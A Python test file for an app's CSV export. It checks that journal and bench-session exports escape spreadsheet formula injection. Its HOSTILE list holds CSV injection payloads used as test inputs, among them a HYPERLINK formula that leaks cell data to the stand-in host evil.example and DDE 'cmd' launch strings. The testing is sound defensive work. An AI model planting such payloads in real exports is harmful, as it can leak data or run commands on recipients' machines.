"""No CSV the app writes can run a formula when opened in a spreadsheet (OWASP's CSV injection
rule, issue 16): the journal's audit export and the bench session both go through ``csv_safe``."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from scanner_app.core.bench.session import BenchSession, RowState
from scanner_app.core.csv_safe import SafeWriter, safe_cell
from scanner_app.core.journal.journal import Journal
from scanner_app.core.models import AutopilotDevice, DeviceChange, ScanTarget

PACKAGE = Path(__file__).resolve().parents[2] / "scanner_app"
#: What a label, an operator's name or Graph could carry into a cell.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # leading spaces: some spreadsheets trim them and run the rest
    "\uff1d1+1",  # a full-width equals sign, evaluated by some locales' spreadsheets
    "SN1;=1+1",  # a cell of its own where the spreadsheet splits on ";"
    'SN2,"=1+1"',
    "failed:\r\n=1+1",  # a row of its own where the quotes are not honoured
]


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take ``cell`` as a formula."""
    return cell.lstrip(' \t\r\n"')[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20")


def cells_as_spreadsheets_split_them(text: str) -> list[str]:
    """Every cell of ``text`` as a spreadsheet splitting on "," or on ";" would see it."""
    return [
        cell
        for delimiter in ",;"
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


def without_added_quotes(cell: str) -> str:
    """The value as it was before ``safe_cell``: without the ``'`` put before formula starts."""
    return re.sub("'(?=[ \"\n]*[=+\\-@\t\r\uff1d\uff0b\uff0d\uff20])", "", cell)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_before_the_formula(text: str) -> None:
    cell = safe_cell(text)
    assert without_added_quotes(cell) == text  # nothing lost
    pieces = re.split(r"[,;\t\r\n]", cell)  # however a spreadsheet splits it
    assert not [piece for piece in pieces if runs(piece)]
    if runs(text):
        assert cell.startswith("'")


@pytest.mark.parametrize(
    "value", ["5CG1234XYZ", "ada@contoso.com", "a-b", "x, y", "", 7, -3, 2.5, None]
)
def test_plain_text_and_numbers_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_a_formula_after_a_separator_inside_a_cell_is_escaped_there() -> None:
    assert safe_cell("SN1;=1+1") == "SN1;'=1+1"
    assert safe_cell('a, "@SUM(1)"') == 'a, "\'@SUM(1)"'
    assert safe_cell("failed:\r\n-2+3") == "failed:\r\n'-2+3"


def test_the_journal_export_runs_nothing_whatever_a_spreadsheet_splits_on(tmp_path: Path) -> None:
    journal = Journal(tmp_path / "journal.sqlite3")
    for i, text in enumerate(HOSTILE):
        dev = AutopilotDevice(id=f"dev-{i}", serial_number=text)
        entry = journal.record(dev, DeviceChange(group_tag=text), operator=text, tenant=text)
        journal.mark(entry, "failed", reason=text)
    out = io.StringIO()
    assert journal.export_csv(out) == len(HOSTILE)
    journal.close()
    assert not [c for c in cells_as_spreadsheets_split_them(out.getvalue()) if runs(c)]
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    # Nothing lost: each value is there, behind one quote when it needed one.
    assert [without_added_quotes(r["serial"]) for r in rows] == HOSTILE
    assert [r["operator"] for r in rows][:2] == ["'" + HOSTILE[0], "'" + HOSTILE[1]]


def test_the_bench_session_export_runs_nothing_whatever_a_spreadsheet_splits_on() -> None:
    session = BenchSession(group_tag="SN3;@SUM(1)")
    for text in HOSTILE:
        row = session.add_scan(ScanTarget("serial", text))
        session.update(row.id, RowState.FAILED, reason=text)
    text = session.to_csv_text()
    assert not [c for c in cells_as_spreadsheets_split_them(text) if runs(c)]
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [without_added_quotes(r["reason"]) for r in rows] == HOSTILE
    assert text.splitlines()[0].startswith("time,serial,")  # the header stays readable


def test_every_csv_the_app_writes_goes_through_the_one_rule() -> None:
    writers = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if path.name != "csv_safe.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == []
    out = io.StringIO()
    writer = SafeWriter(out)
    writer.header(["a"])
    writer.row(["=1"])
    assert (writer.rows, out.getvalue()) == (1, 'a\r\n"\'=1"\r\n')
